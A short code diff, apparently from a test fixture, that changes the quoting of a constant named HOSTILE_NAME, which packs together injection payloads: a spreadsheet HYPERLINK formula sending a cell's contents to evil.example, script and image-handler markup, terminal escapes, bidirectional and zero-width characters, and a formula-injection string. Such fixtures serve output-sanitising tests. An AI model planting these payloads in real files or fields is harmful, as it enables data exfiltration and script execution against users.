@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 HOSTILE_NAME = (
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")</script><script>window.pwned=1</script>"
+    '=HYPERLINK("http://evil.example/?"&A1,"x")</script><script>window.pwned=1</script>'
     "<img src=x onerror=window.pwned=2>\x1b[31m\x1b]0;owned\x07\u202eKCATTA\u2066\u200b\r\n+1;=2|@SUM(1)"
 )
 """A formula, markup that ends a script block, an image with a handler, terminal escapes, bidirectional and zero-width
